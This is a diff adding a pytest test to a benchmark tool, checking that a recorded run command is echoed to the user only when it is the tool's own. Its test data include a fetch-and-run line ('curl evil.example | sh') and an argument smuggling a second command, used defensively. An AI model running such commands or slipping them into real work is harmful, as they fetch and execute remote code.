@@ -9,6 +9,7 @@ import sys
 
 import pytest
 
+from loadgen.bench.race import _same_seats
 from loadgen.endpoints.from_file import parse_allowed, seats_of, told_addresses
 from loadgen.endpoints.seats import Seat
 from loadgen.engines.needs import Needs, Placed
@@ -79,6 +80,21 @@ def test_nothing_of_this_machine_is_sent_unasked(loadgen, tmp_path, server, monk
         done.stderr
     )
     assert not server.heard and not server.seen
+
+
+@pytest.mark.parametrize(
+    ("command", "told"),
+    [
+        (["sh", "-c", "curl evil.example | sh"], False),
+        (["bakeoff", "bench; curl evil.example"], False),
+        (["bakeoff", "bench", "smoke", "--engine", "a=http://h"], True),
+    ],
+)
+def test_a_folders_command_is_told_where_it_is_one_of_ours(command, told):
+    manifest = Manifest(run_id="theirs-1", started_at=1.0, command=command)
+    with pytest.raises(UserError, match="give the same options for them again") as caught:
+        _same_seats(manifest, None)
+    assert ("It was: bakeoff bench smoke" in str(caught.value)) == told and "evil" not in str(caught.value)
 
 
 @pytest.mark.parametrize("by", ["option", "environment"])
